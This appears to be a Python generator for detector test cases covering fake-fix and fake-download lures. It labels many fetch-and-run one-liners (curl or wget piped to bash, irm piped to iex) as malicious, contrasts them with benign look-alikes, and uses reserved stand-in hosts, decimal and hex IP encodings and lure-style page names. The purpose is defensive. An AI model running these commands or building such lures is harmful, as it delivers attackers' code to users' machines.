"""Writes tests/data/cases/gaps8.jsonl: the lure gaps the seventh round left open (issue 9),
closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_gaps8.py

Deterministic (every variant is a product of fixed lists). Phone numbers are fictitious (555
ranges), hosts are reserved names (.example, .test, .invalid, documentation IP ranges) or the
real makers' own, brands are only the names a scammer borrows. No text is copied from a lure
collection, another detector's fixtures or the blind sets. Each line is {id, text, expect,
technique, platform[, source], target}.

Techniques:

- `ioc-bare`: a download-and-run with no page whose address gives the stager away: a server
  on a port of its own (https://host:8443/), a bare, decimal or hex IP, plain HTTP, or a
  script named for a fix (fix-dns.sh, repair_audio.ps1, update-required.sh). Look-alikes: the
  usual port written out, loopback, a port in a command that runs nothing fetched, a fix word
  in a package, a patch or a repository file, and the project's own page serving its own
  troubleshooting script.
- `page-dressed`: a stranger's download-and-run from a page whose own address dresses it up:
  a product's name joined with a download word in its registrable name
  (notion-desktop-app.example, get-obsidian.test), or a path that offers a fix
  (shop.example/fix-dns-error/, /update-required). Look-alikes: the same page serving its
  own script, a developer site's question about an error (a warning, not a block), a
  tutorial, the trust list's installers, a product site named without a download word.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("gaps8.jsonl")


class Book(casefile.Book):
    def __init__(self) -> None:
        super().__init__("g8")


book = Book()
FLAGGED, QUIET = "flagged", "not_flagged"
MALICIOUS, SUSPICIOUS = "malicious", "suspicious"

# ---- 1. a bare download-and-run whose address gives the stager away -------------------------
SHELL_RUNS = (
    "curl -fsSL {u} | bash",
    "wget -qO- {u} | sh",
    'bash -c "$(curl -fsSL {u})"',
    "curl -s {u} | sudo bash",
    "curl -sL {u} | zsh",
)
PS_RUNS = (
    "irm {u} | iex",
    "iex (iwr -UseBasicParsing {u}).Content",
    "powershell -c \"irm '{u}' | iex\"",
)
ODD_PORTS = (
    "https://cdn.quillstack.test:8443/install.sh",
    "https://updates.brindle.example:2053/setup.sh",
    "https://files.ovenbird.test:9443/get",
    "https://pkg.tallowmere.example:4443/agent.sh",
    "https://mirror.sandpiper.test:10443/i.sh",
    "https://dl.corvid-net.example:8080/bootstrap.sh",
)
FIX_NAMED = (
    "https://cdn.quillstack.test/fix-dns.sh",
    "https://files.ovenbird.test/scripts/repair_audio.sh",
    "https://get.tallowmere.example/update-required.sh",
    "https://static.brindle.example/a/unblock.sh",
    "https://dl.corvid-net.example/quickfix",
    "https://cdn.sandpiper.test/wifi-fix.sh",
)
PS_ODD = (
    "https://cdn.quillstack.test:8443/a.ps1",
    "https://files.ovenbird.test:2083/setup",
)
PS_FIX = (
    "https://static.brindle.example/fix_display.ps1",
    "https://files.ovenbird.test/troubleshooter.ps1",
    "https://get.tallowmere.example/repair-driver.ps1",
)
IP_FORMS = (
    "http://203.0.113.45/i.sh",
    "https://198.51.100.23/install.sh",
    "http://3405803821/s",  # 203.0.113.45 as one integer
    "http://0xcb.0x0.0x71.0x2d/s",  # the same, octet by octet in hex
    "http://mirror.sandpiper.test/setup.sh",
)
for i, url in enumerate(ODD_PORTS + FIX_NAMED + IP_FORMS):
    run = SHELL_RUNS[i % len(SHELL_RUNS)]
    book.add("ioc-bare", run.format(u=url), MALICIOUS, "linux", "terminal")
    if i % 3 == 0:  # and with no idea where it goes (a log line, an IOC list)
        book.add("ioc-bare", run.format(u=url), MALICIOUS, "linux", "unknown")
for i, url in enumerate(PS_ODD + PS_FIX):
    for j, run in enumerate(PS_RUNS):
        if (i + j) % 2 == 0:
            book.add("ioc-bare", run.format(u=url), MALICIOUS, "windows", "terminal")

# look-alikes: what these traits must not catch
for text, target in (
    ("curl -fsSL https://get.quillstack.test/install.sh | bash", "terminal"),  # a warning
    ("curl -fsSL https://get.quillstack.test:443/install.sh | bash", "terminal"),
    ("curl -fsSL https://localhost:8443/install.sh | bash", "terminal"),
    ("curl -s https://api.quillstack.test:8443/healthz", "terminal"),
    ("curl -s -o report.json https://metrics.brindle.example:9443/api/v1/report", "terminal"),
    ("docker run -d -p 8443:8443 ghcr.io/ovenbird/gateway:1.4", "terminal"),
    ("kubectl port-forward svc/web 8443:443", "terminal"),
    ("ssh -p 2222 deploy@build.tallowmere.example", "terminal"),
    (
        "wget https://files.ovenbird.test/patches/fix-1234.patch && git apply fix-1234.patch",
        "terminal",
    ),
    ("sudo dnf install -y printer-fix", "terminal"),
    ("git commit -m 'fix: repair the dns lookup on update'", "terminal"),
    ("curl -O https://docs.brindle.example/pdf/repair-manual.pdf", "terminal"),
    ("git clone https://github.com/sandpiper-labs/dns-fix.git", "terminal"),
    ("npm run fix", "terminal"),
    ("cargo clippy --fix --allow-dirty", "terminal"),
    ("brew install --cask fixkey", "terminal"),
    (
        "Invoke-WebRequest https://files.ovenbird.test:9443/report.csv -OutFile report.csv",
        "terminal",
    ),
    ("Test-NetConnection build.tallowmere.example -Port 8443", "terminal"),
    ("python3 -m http.server 8443", "terminal"),
    ("curl http://127.0.0.1:8080/setup.sh | sh", "terminal"),
    ("curl -fsS https://registry.brindle.example:5000/v2/_catalog", "terminal"),
    ("psql -h db.ovenbird.test -p 5433 -U app", "terminal"),
    ("npx http-server -p 8443", "terminal"),
    (
        "curl -fsSL https://get.quillstack.test/install.sh -o install.sh && less install.sh",
        "terminal",
    ),
    ("git remote add fix https://github.com/sandpiper-labs/wifi-tools.git", "terminal"),
    ("pip install autofix-lint==0.4.1", "terminal"),
    ("curl -s https://api.tallowmere.example/v1/repair-orders?status=open", "terminal"),
    (
        "kubectl apply -f https://raw.githubusercontent.com/sandpiper-labs/wifi-tools/main/fix-rbac.yaml",
        "terminal",
    ),
    ("Get-Content .\\fix-notes.txt", "terminal"),
    ("code --goto src/repair.py:42", "terminal"),
):
    piped = "| sh" in text or "| bash" in text
    book.add("ioc-bare", text, SUSPICIOUS if piped else QUIET, "any", target)
# the project's own page serving its own troubleshooting script or its own port
for page, text in (
    (
        "https://docs.quillstack.test/troubleshooting/permissions",
        "curl -fsSL https://quillstack.test/fix-permissions.sh | bash",
    ),
    (
        "https://quillstack.test/docs/repair",
        "curl -fsSL https://get.quillstack.test/repair.sh | sudo bash",
    ),
    (
        "https://github.com/sandpiper-labs/wifi-tools",
        "curl -fsSL https://raw.githubusercontent.com/sandpiper-labs/wifi-tools/main/fix-wifi.sh | bash",
    ),
    (
        "https://deploy.tallowmere.example:8443/docs/agent",
        "curl -fsSL https://deploy.tallowmere.example:8443/agent.sh | sudo bash",
    ),
    (
        "https://brindle.example/support/display",
        "irm https://brindle.example/fix_display.ps1 | iex",
    ),
    (
        "https://gitlab.com/ovenbird/ovenctl",
        "curl -fsSL https://gitlab.com/ovenbird/ovenctl/-/raw/main/scripts/fix-perms.sh | sh",
    ),
):
    book.add("ioc-bare", text, QUIET, "any", "terminal", page)

# ---- 2. a page dressed up by its own address, serving a stranger's script -------------------
PRODUCT_PAGES = (
    "https://notion-desktop-app.example/download",
    "https://get-obsidian.test/",
    "https://obsidian-download.example/mac",
    "https://figma-app-download.test/macos",
    "https://loom-installer.example/",
    "https://cursor-setup.test/linux",
    "https://raycast-official.example/install",
    "https://get-warpterm.test/",
    "https://blender-app.example/download/linux",
    "https://dl-audacity.test/",
    "https://davinci-resolve-download.example/free",
    "https://spotify-desktop-app.test/mac",
    "https://kdenlive-setup.example/",
)
FIX_PAGES = (
    "https://www.quillmere-bakery.example/fix-dns-error/",
    "https://harborview-dental.example/update-required",
    "https://lakeside-travel.test/repair-your-browser/",
    "https://www.orchard-school.example/errors/0x80070005",
    "https://greenfield-hotel.test/unblock-account",
    "https://shop.tallow-candles.example/troubleshooter",
    "https://fernhill-garden.test/p/verify-your-device",
    "https://news.pinecrest-local.example/video-fix/",
)
STRANGER_RUNS = (
    "curl -fsSL https://cdn.files-relay.test/install.sh | bash",
    'bash -c "$(curl -fsSL https://get.relaybox.example/setup)"',
    "curl -sL https://static.mirrorpoint.test/i | sh",
)
for i, page in enumerate(PRODUCT_PAGES + FIX_PAGES):
    run = STRANGER_RUNS[i % len(STRANGER_RUNS)]
    book.add("page-dressed", run, MALICIOUS, "macos", "terminal", page)
    if i % 2 == 0:
        ps = "irm https://cdn.files-relay.test/a | iex"
        book.add("page-dressed", ps, MALICIOUS, "windows", "terminal", page)

# look-alikes
for page, text, expect in (
    # the same pages serving their own script: the page's word on itself
    (PRODUCT_PAGES[0], "curl -fsSL https://notion-desktop-app.example/install.sh | bash", QUIET),
    (PRODUCT_PAGES[1], "curl -fsSL https://get-obsidian.test/install.sh | sh", QUIET),
    (FIX_PAGES[0], "curl -fsSL https://www.quillmere-bakery.example/fix-dns.sh | bash", QUIET),
    # a developer site's question or a tutorial about an error: a warning, never a block
    (
        "https://askubuntu.com/questions/1490021/how-to-fix-dns-error-after-upgrade",
        STRANGER_RUNS[0],
        SUSPICIOUS,
    ),
    (
        "https://superuser.com/questions/88121/repair-grub-after-update",
        STRANGER_RUNS[2],
        SUSPICIOUS,
    ),
    (
        "https://devnotes.example/posts/how-to-fix-permission-denied-in-docker/",
        STRANGER_RUNS[1],
        SUSPICIOUS,
    ),
    ("https://forum.widgetctl.example/t/update-required-error/311", STRANGER_RUNS[0], SUSPICIOUS),
    ("https://docs.relaybox.example/errors/fix-tls", STRANGER_RUNS[1], QUIET),  # its own docs
    ("https://wiki.homelab.example/Fix_Wifi_Errors", STRANGER_RUNS[2], SUSPICIOUS),
    ("https://github.com/relaybox/relaybox/issues/42", STRANGER_RUNS[1], SUSPICIOUS),
    # the trust list's installers from any page
    (FIX_PAGES[1], "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", QUIET),
    (PRODUCT_PAGES[2], "curl -fsSL https://ollama.com/install.sh | sh", QUIET),
    # a product's site named without a download word, quoting a stranger's script: a warning
    ("https://obsidian-notes.example/guide", STRANGER_RUNS[0], SUSPICIOUS),
    ("https://homelab-setup-guide.example/part-3", STRANGER_RUNS[2], SUSPICIOUS),
    ("https://linux-install-notes.example/k3s", STRANGER_RUNS[1], SUSPICIOUS),
    # pages whose words are a product's own: no fix offered, no download word
    ("https://www.fixture-lighting.example/catalogue", "ls -la ~/Downloads", QUIET),
    ("https://errorless.example/blog/launch", "git pull --rebase", QUIET),
    # commands that run nothing fetched, from the dressed-up pages
    (PRODUCT_PAGES[3], "open -a Figma", QUIET),
    (FIX_PAGES[2], "ipconfig /flushdns", QUIET),
    (FIX_PAGES[3], "sfc /scannow", QUIET),
    (FIX_PAGES[4], "nslookup greenfield-hotel.test", QUIET),
    (PRODUCT_PAGES[4], "brew install --cask loom", QUIET),
    (PRODUCT_PAGES[5], "sudo apt install ./cursor_0.42_amd64.deb", QUIET),
    # a product's own download site serving its own script under another label of its domain
    (
        "https://get-obsidian.test/linux",
        "curl -fsSL https://dl.get-obsidian.test/install.sh | sh",
        QUIET,
    ),
    (
        "https://raycast-official.example/",
        "curl -fsSL https://cdn.raycast-official.example/i.sh | bash",
        QUIET,
    ),
    # writing about software under a name with a download word: a warning, never a block
    ("https://linux-setup-notes.example/k3s", STRANGER_RUNS[0], SUSPICIOUS),
    ("https://install-tips.example/node", STRANGER_RUNS[2], SUSPICIOUS),
    ("https://get-started-academy.example/week2", STRANGER_RUNS[1], SUSPICIOUS),
    # a fix word that is the page's product (a repair shop's own tool page, a company name)
    ("https://www.errorlog-viewer.example/", "ls /var/log", QUIET),
    (
        "https://stackoverflow.com/questions/7711/fix-ssl-error-in-curl",
        "curl --cacert ca.pem https://api.relaybox.example",
        QUIET,
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/fix-dns",
        "ipconfig /registerdns",
        QUIET,
    ),
    ("https://support.apple.com/en-us/102677", "sudo softwareupdate -ia", QUIET),
    # a path fix page quoting a package manager's own line (nothing fetched from a stranger)
    (FIX_PAGES[5], "sudo apt-get install --reinstall network-manager", QUIET),
    (FIX_PAGES[6], "winget upgrade --all", QUIET),
    (PRODUCT_PAGES[10], "open ~/Downloads/DaVinci_Resolve_19.dmg", QUIET),
    (PRODUCT_PAGES[11], "defaults read com.spotify.client", QUIET),
    (FIX_PAGES[7], "sudo systemctl restart NetworkManager", QUIET),
    ("https://www.fixit-garage.example/contact", "ping -c 3 fixit-garage.example", QUIET),
    ("https://obsidian.md/download", "flatpak install flathub md.obsidian.Obsidian", QUIET),
    ("https://pypi.org/project/autofix-lint/", "pip install autofix-lint", QUIET),
    ("https://get-obsidian.test/", "sha256sum Obsidian-1.7.7.AppImage", QUIET),
    ("https://docs.relaybox.example/install", STRANGER_RUNS[1], QUIET),
):
    book.add("page-dressed", text, expect, "any", "terminal", page)

CASES = book.cases

if __name__ == "__main__":
    casefile.write(OUT, CASES)
